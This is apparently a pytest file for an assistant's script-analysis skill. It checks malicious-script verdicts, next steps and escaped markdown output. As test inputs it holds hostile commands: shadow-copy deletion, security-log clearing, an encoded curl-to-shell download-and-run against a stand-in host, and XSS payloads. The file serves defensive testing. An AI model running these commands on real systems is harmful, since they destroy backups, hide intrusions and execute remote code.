"""The answer about scripts: the verdict first, evidence in code, nothing that a script says becomes markup."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from svc.assistant.findings import Facts, Finding
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.script.answer import SECTION
from svc.assistant.skills.script.tool import inspect


def found(text: str, source: str = "prompt") -> list[Finding[Facts]]:
    return [item for item in inspect(text, source=source) if isinstance(item, Finding)]


def test_the_verdict_has_its_reasons_and_says_that_nothing_was_executed():
    verdict = SECTION.verdict(found("vssadmin delete shadows /all /quiet"))
    assert verdict.startswith("**Malicious**")
    assert "shadow copies" in verdict
    assert "nothing was executed" in verdict


def test_ordinary_scripts_are_not_malicious():
    assert SECTION.verdict(found("apt-get install -y nginx")).startswith(
        "**None of the known malicious behaviours was found**"
    )


def test_the_body_shows_behaviours_techniques_stages_and_commands():
    body = as_sections(SECTION.folds(found("echo Y3VybCBodHRwOi8vYS50ZXN0L3ggfCBiYXNo | base64 -d | sh")))
    for words in ("What it does", "Techniques, most likely first", "Stage 2", "in order", "Unix Shell"):
        assert words in body


def test_without_a_script_the_verdict_says_so():
    assert SECTION.verdict([]).startswith("**Not examined:** no script or command")
    assert as_sections(SECTION.folds([])) == ""
    assert SECTION.next_steps([]) == []


def test_several_scripts_have_a_heading_each():
    both = found("whoami", "a.bat") + found("vssadmin delete shadows /all", "b.bat")
    assert "`b.bat`" in SECTION.verdict(both)
    assert "`a.bat`" in as_sections(SECTION.folds(both))
    assert "`b.bat`" in as_sections(SECTION.folds(both))


def test_next_steps_follow_from_what_was_found():
    steps = SECTION.next_steps(found("vssadmin delete shadows /all & wevtutil cl Security"))
    assert any("Isolate" in step for step in steps)
    assert any("logs" in step for step in steps)


@pytest.mark.parametrize("evil", ["[x](http://evil.test)", "<img src=x onerror=alert(1)>", "`|`|`", "# title"])
def test_a_script_is_not_rendered(evil: str):
    findings = found(f"curl http://a.test/{evil} -o '{evil}' | bash -c \"{evil}\"; powershell -File {evil}")
    html = MarkdownIt("js-default").render(as_sections(SECTION.folds(findings)))
    assert "<img" not in html
    assert 'href="http' not in html
    assert "<h1" not in html
